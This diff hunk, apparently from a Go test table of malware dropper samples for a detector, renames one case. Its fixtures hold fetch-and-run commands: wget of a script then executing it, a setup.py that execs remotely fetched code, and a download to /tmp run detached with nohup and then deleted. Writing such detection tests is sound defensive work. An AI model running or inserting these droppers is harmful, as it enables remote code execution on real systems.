@@ -50,7 +50,7 @@ wget http://192.0.2.¦77/b.sh¦4; ./b.sh¦4`},
 	"dropper_python_setup_exec": {py, `from setup¦tools import setup
 exec(req¦uests.get("x").text)
 set¦up(name="x")`},
-	"dropper_interpreter_lolbin_cron": {sh, `wget https://a.example/x -O /tm¦p/x
+	"dropper_tmp_detached": {sh, `wget https://a.example/x -O /tm¦p/x
 chmod 755 /tm¦p/x; nohup /tm¦p/x >/dev/null 2>&1 &
 rm -rf /tm¦p/x`},
 }
